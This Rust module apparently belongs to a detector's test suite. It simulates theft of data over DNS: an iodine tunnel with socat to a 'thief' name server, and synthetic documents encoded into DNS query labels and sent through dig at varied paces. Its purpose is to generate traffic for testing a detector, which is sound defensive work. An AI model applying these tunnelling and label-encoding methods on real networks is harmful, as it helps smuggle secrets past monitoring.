//! Theft through names: a whole tunnel, and plain queries whose labels are the document.

use std::collections::BTreeMap;
use std::fs;
use std::net::IpAddr;
use std::time::Duration;

use anyhow::{Context, Result, ensure};
use detector_tests::{Background, poll_until, wait_for_udp_listener};

use crate::encoding::Encoding;
use crate::random::Random;
use crate::scene::{Outcome, Scene, Target, ensure_arrived, resolver};
use crate::sites::THIEF_NAME_SERVER;

const START: Duration = Duration::from_secs(15);
/// Takes half a minute over a long line.
const LARGEST_TUNNELLED: u64 = 70_000;
/// As many as a long line takes in a quarter of a minute.
const MOST_QUERIES: usize = 400;
const SENDER: Duration = Duration::from_secs(60);
const TUNNEL_SERVER: &str = "10.99.0.1";
const TUNNEL_PORT: &str = "4000";

/// A file over TCP over iodine, through a resolver or straight to the thief's server.
pub(crate) fn iodine(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let record = *random.pick(&["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"]);
    let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
    let size = random.size(8_000, LARGEST_TUNNELLED);
    let zone = &scene.thief_zone;
    let server = scene.internet().spawn(
        "iodined",
        ["-f", "-c", "-l", THIEF_NAME_SERVER, "-P", "secret", TUNNEL_SERVER, zone],
    )?;
    wait_for_udp_listener(scene.internet(), 53, START)?;
    server.wait_for_line("Listening to dns", START)?;
    let client = scene
        .client()
        .spawn("iodine", ["-f", "-r", "-T", record, "-P", "secret", through, zone])?;
    client.wait_for_line("Connection setup complete", Duration::from_secs(40))?;
    let got = scene.inbox("got");
    let sink = format!("OPEN:{},creat", got.display());
    let listen = format!("TCP-LISTEN:{TUNNEL_PORT},bind={TUNNEL_SERVER}");
    let _receiver = scene.internet().spawn("socat", ["-u", &listen, &sink])?;
    detector_tests::wait_for_tcp_listener(scene.internet(), 4000, START)?;
    let file = format!("OPEN:{}", scene.document("stolen", &random.document(size))?);
    scene.run("socat", &["-u", &file, &format!("TCP:{TUNNEL_SERVER}:{TUNNEL_PORT}")])?;
    let length = || fs::metadata(&got).map_or(0, |file| file.len() as usize);
    poll_until(START * 3, || (length() >= size).then_some(())).ok();
    ensure_arrived(size, length())?;
    stolen(
        scene,
        through,
        size,
        format!("{size} bytes in {record} queries for {zone} through {through}"),
    )
}

/// Hundreds of queries, as fast as dig asks them.
pub(crate) fn fast_queries(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let size = random.size(6_000, 50_000);
    carry(scene, random, size, &Pace { queries_at_once: 25, senders: 4, pause_secs: 0.0 })
}

/// One query now and then.
pub(crate) fn slow_queries(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let size = random.size(300, 2_500);
    let pause_secs = random.log_uniform(0.2, 1.0);
    carry(scene, random, size, &Pace { queries_at_once: 1, senders: 1, pause_secs })
}

/// A secret in one name, or in a few.
pub(crate) fn single_query(scene: &Scene<'_>, random: &mut Random) -> Result<Outcome> {
    let size = random.size(30, 130);
    carry(scene, random, size, &Pace { queries_at_once: 1, senders: 1, pause_secs: 0.5 })
}

/// One short name at a time, for so long.
pub(super) fn drip(scene: &Scene<'_>, random: &mut Random, seconds: f64) -> Result<Outcome> {
    let pause_secs = random.log_uniform(2.0, 8.0);
    let size = random.between(6, 40) * (seconds / pause_secs) as u64;
    carry(scene, random, size as usize, &Pace { queries_at_once: 1, senders: 1, pause_secs })
}

struct Pace {
    queries_at_once: usize,
    senders: usize,
    pause_secs: f64,
}

/// Sends the document as labels under the thief's zone and reads it back from the names
/// that the thief's server was asked for.
fn carry(scene: &Scene<'_>, random: &mut Random, size: usize, pace: &Pace) -> Result<Outcome> {
    let through = if random.chance(0.3) { THIEF_NAME_SERVER } else { resolver(random) };
    let style = *random.pick(&["address", "text", "nxdomain"]);
    let log = scene.scratch.join("names.log");
    let server = scene.start_script(
        scene.internet(),
        "dns_sink.py",
        &[THIEF_NAME_SERVER.to_owned(), log.display().to_string(), style.to_owned()],
    )?;
    server.wait_for_line("ready", START)?;
    let (labels, label_length) = (random.between(1, 3) as usize, random.between(16, 62) as usize);
    let encoding = Encoding::draw(random);
    let most = MOST_QUERIES * labels * encoding.bytes_in(label_length);
    let document = random.document(size.min(most));
    let size = document.len();
    let names = names_of(&document, &scene.thief_zone, labels, (encoding, label_length));
    let kind = if style == "text" { "TXT" } else { *random.pick(&["A", "A", "AAAA"]) };
    for (number, some) in names.chunks(pace.queries_at_once * pace.senders).enumerate() {
        let lists = some.chunks(pace.queries_at_once).enumerate();
        let senders: Vec<Background> = lists
            .map(|(sender, list)| {
                let list: String = list.iter().map(|name| format!("{name} {kind}\n")).collect();
                let batch = scene.document(&format!("names-{number}-{sender}"), list.as_bytes())?;
                scene.client().spawn(
                    "dig",
                    [&format!("@{through}"), "+short", "+tries=4", "+timeout=2", "-f", &batch],
                )
            })
            .collect::<Result<_>>()?;
        for mut sender in senders {
            sender.wait(SENDER)?;
        }
        std::thread::sleep(Duration::from_secs_f64(pace.pause_secs * random.uniform(0.5, 1.5)));
    }
    let arrived = read_back(
        &fs::read_to_string(&log).context("nobody asked the thief's server")?,
        &scene.thief_zone,
        encoding,
    );
    ensure!(
        arrived == document,
        "{size} bytes were sent in {} names and other ones arrived",
        names.len()
    );
    stolen(
        scene,
        through,
        size,
        format!(
            "{size} bytes as {encoding:?} in {} {kind} queries for {} through {through}, answered with {style}",
            names.len(),
            scene.thief_zone
        ),
    )
}

/// `NUMBER.LABEL[.LABEL…].ZONE`; each label holds whole bytes.
fn names_of(
    document: &[u8],
    zone: &str,
    labels: usize,
    (encoding, label_length): (Encoding, usize),
) -> Vec<String> {
    let bytes_per_label = encoding.bytes_in(label_length);
    let name = |(number, part): (usize, &[u8])| {
        let labels: Vec<String> =
            part.chunks(bytes_per_label).map(|bytes| encoding.encode(bytes)).collect();
        format!("{number:x}.{}.{zone}", labels.join("."))
    };
    document.chunks(bytes_per_label * labels).enumerate().map(name).collect()
}

/// The document from the names, whatever their order and however often each came.
fn read_back(log: &str, zone: &str, encoding: Encoding) -> Vec<u8> {
    let parts: BTreeMap<usize, Vec<u8>> =
        log.lines().filter_map(|name| part_of(name, zone, encoding)).collect();
    parts.into_values().flatten().collect()
}

fn part_of(name: &str, zone: &str, encoding: Encoding) -> Option<(usize, Vec<u8>)> {
    let (number, labels) = name.strip_suffix(zone)?.strip_suffix('.')?.split_once('.')?;
    let bytes: Option<Vec<Vec<u8>>> =
        labels.split('.').map(|label| encoding.decode(label)).collect();
    Some((usize::from_str_radix(number, 16).ok()?, bytes?.concat()))
}

/// What the network sees is a client that tells its resolver.
fn stolen(scene: &Scene<'_>, through: &str, size: usize, notes: String) -> Result<Outcome> {
    let address: IpAddr = through.parse().with_context(|| format!("{through} is no address"))?;
    let target = Target { host: through.to_owned(), address };
    Ok(Outcome::stolen(scene.culprit(&target, "udp", Some(53))?, size, notes))
}
